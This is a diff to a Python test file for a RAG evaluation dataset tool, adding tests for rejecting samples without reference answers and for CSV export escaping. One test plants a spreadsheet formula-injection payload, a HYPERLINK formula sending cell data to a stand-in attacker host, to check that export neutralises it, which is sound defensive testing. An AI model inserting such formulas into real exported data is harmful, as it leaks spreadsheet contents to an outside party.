@@ -46,7 +46,7 @@ TESTSET = [
     {
         "user_input": "What is the per-diem for meals in Tokyo?",
         "reference_contexts": [HOTEL_TEXT],
-        "reference": "",
+        "reference": "The documents give no information about meals in Tokyo.",  # declines: unanswerable
         "synthesizer_name": "single_hop_specific_query_synthesizer",
     },
     {
@@ -244,6 +244,64 @@ def test_a_set_that_fails_the_expectations_suite_is_not_published(env, tmp_path)
 
     assert "fails the expectations suite the synthesis runs" in line and "multi_context" in line
     _assert_nothing_written(env, "v2")
+
+
+def test_samples_without_references_are_refused_not_published_as_unanswerable(env, tmp_path):
+    """A RAGAS EvaluationDataset of user_input, retrieved_contexts and response: nothing to verify, and nothing
+    says the documents do not answer its questions."""
+    samples = [
+        {
+            "user_input": question,
+            "retrieved_contexts": [HOTEL_TEXT],
+            "response": "EUR 230 per night.",
+        }
+        for question in ("What is the hotel cap in Zürich?", "What is the hotel cap in London?")
+    ]
+
+    line = _one_line_error(
+        rag_eval(
+            env,
+            "dataset",
+            "import",
+            "--tenant",
+            "acme",
+            "--file",
+            str(_testset(tmp_path, samples)),
+            "--new-version",
+            "v2",
+        )
+    )
+
+    assert (
+        "can be published (2 rejected, the first: line 1: form: no reference answer to verify: give the reference"
+        in line
+    )
+    _assert_nothing_written(env, "v2")
+
+
+def test_a_csv_export_marks_formula_cells_says_how_many_and_imports_back_exactly(env, tmp_path):
+    golden = golden_frame(ITEMS)
+    golden.loc[0, "question"] = '=HYPERLINK("http://attacker.example/?d="&A1, "How long are request logs kept?")'
+    golden.loc[1, "ground_truth"] = "+35 days, in a separate region."
+    lay_out_version(_warehouse(env), "acme", "v5", golden)
+    out = tmp_path / "set.csv"
+
+    exported = rag_eval(
+        env, "dataset", "export", "--tenant", "acme", "--version", "v5", "--format", "ragas", "--out", str(out)
+    )
+
+    assert exported.returncode == 0, exported.stderr
+    assert "2 cells that a spreadsheet would run as a formula are written after a ' (its text mark)" in exported.stdout
+    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")
+    imported = rag_eval(env, "dataset", "import", "--tenant", "acme", "--file", str(out), "--new-version", "v6")
+    assert imported.returncode == 0, imported.stderr
+    assert _content(_warehouse(env).read("acme", "v6", "golden_set")) == _content(golden)
+    jsonl = tmp_path / "set.jsonl"
+    exported = rag_eval(
+        env, "dataset", "export", "--tenant", "acme", "--version", "v5", "--format", "ragas", "--out", str(jsonl)
+    )
+    assert exported.returncode == 0 and "text mark" not in exported.stdout
+    assert json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])["user_input"] == golden.loc[0, "question"]
 
 
 def _assert_nothing_written(env, version: str) -> None:
